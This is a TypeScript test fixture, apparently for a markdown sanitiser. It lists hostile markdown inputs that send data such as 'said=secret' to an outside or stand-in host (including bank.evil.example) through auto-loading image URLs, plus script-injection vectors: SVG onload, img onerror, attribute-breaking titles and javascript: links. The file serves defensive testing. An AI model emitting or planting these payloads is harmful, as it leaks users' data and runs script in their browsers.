import type { HostileTexts } from './HostileText.js';
import { outside, outsideDomain, script } from './outside.js';

/** Images and references that carry data out in their address as soon as they are shown. */
export const imageTexts: HostileTexts = {
  'image inline': {
    tries: 'an image whose address holds what was said',
    text: `![pixel](${outside}/inline.png?said=secret)`,
    shows: 'pixel',
  },
  'image in angle brackets': {
    tries: 'an address with spaces in angle brackets',
    text: `![bracketed](<${outside}/a b.png> "t")`,
    shows: 'bracketed',
  },
  'image by reference': {
    tries: 'an address that stands elsewhere',
    text: `![far][ref]\n\n[ref]: ${outside}/reference.png 'x'`,
    shows: 'far',
  },
  'image by collapsed reference': {
    tries: 'a reference named by the words themselves',
    text: `![near][]\n\n[near]: ${outside}/collapsed.png`,
    shows: 'near',
  },
  'image by shortcut reference': {
    tries: 'a reference that looks like plain brackets',
    text: `![short]\n\n[short]: <${outside}/shortcut.png>`,
    shows: 'short',
  },
  'image defined before use': {
    tries: 'a definition that settled long before',
    text: `[early]: ${outside}/early.png\n\nWords.\n\n![shown][early]`,
    shows: 'shown',
  },
  'image without words': { tries: 'an image that nobody would see', text: `![](${outside}/silent.png)`, shows: 'Image' },
  'image in a link': { tries: 'an image inside a link', text: `[![inside](${outside}/inner.png)](${outside}/page)`, shows: 'inside' },
  'images everywhere': {
    tries: 'an image in every kind of block',
    text: `# ![in heading](${outside}/h.png)\n\n> ![in quote](${outside}/q.png)\n\n1. ![in item](${outside}/i.png)\n- [x] ![in task](${outside}/t.png)\n\n| ![in head](${outside}/th.png) |\n|-|\n| ![in cell](${outside}/td.png) |\n\nMark[^n]\n\n[^n]: ![in note](${outside}/n.png)`,
    shows: 'in cell',
  },
  'image in emphasis': {
    tries: 'an image between marks',
    text: `**![bold](${outside}/b.png)** ~~![gone](${outside}/s.png)~~`,
    shows: 'bold',
  },
  'image without protocol': { tries: 'the protocol of the page', text: `![relative](//${outsideDomain}/a.png)`, shows: 'relative' },
  'image of the same origin': {
    tries: 'a path of the host with data in it',
    text: '![own](/leak?said=secret) ![up](../leak.png) ![here](leak.png)',
    shows: 'own',
  },
  'image with backslashes': {
    tries: 'slashes that only a browser sees',
    text: `![slash](https:\\\\\\\\${outsideDomain}\\\\a.png) ![unc](\\\\\\\\${outsideDomain}/a.png)`,
    shows: 'slash',
  },
  'image with a user': {
    tries: 'a trusted name before the at sign',
    text: `![user](https://127.0.0.1@${outsideDomain}/a.png)`,
    shows: 'user',
  },
  'image in entities': {
    tries: 'a protocol in entities',
    text: `![entity](&#104;&#x74;tps&colon;//${outsideDomain}/a.png)`,
    shows: 'entity',
  },
  'image of data': {
    tries: 'an SVG in the address that loads and runs',
    text: `![data](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='${script}'%3E%3Cimage%20href='${outside}/svg.png'/%3E%3C/svg%3E)`,
    shows: 'data',
  },
  'image with markup for words': {
    tries: 'markup in the alternative text',
    text: `![<img src=x onerror=${script}>](${outside}/alt.png)`,
    shows: 'onerror',
  },
  'image of the wiki kind': {
    tries: 'syntax of other tools',
    text: `![[${outside}/wiki.png]] ![size](${outside}/size.png =100x100) {{${outside}/x.png}}`,
    shows: 'wiki.png',
  },
  'link for the name alone': {
    tries: 'a name that is looked up before anybody presses',
    text: `[press](https://secret-data.${outsideDomain}/)`,
    shows: 'press',
  },
  'link by itself': {
    tries: 'addresses that become links by themselves',
    text: `<${outside}/auto> ${outside}/bare www.${outsideDomain}/www someone@${outsideDomain}`,
    shows: 'someone',
  },
  'link with attributes': {
    tries: 'a title that ends its attribute',
    text: `[words](${outside}/ "\\" onmouseover=\\"${script}") [more](${outside}/ '" autofocus onfocus=${script} x="')`,
    shows: 'words',
  },
  'link redefined': {
    tries: 'a second definition of a known label',
    text: `[bank]\n\n[bank]: https://bank.evil.example/\n\n[bank]: javascript:${script}`,
    shows: 'bank',
  },
};
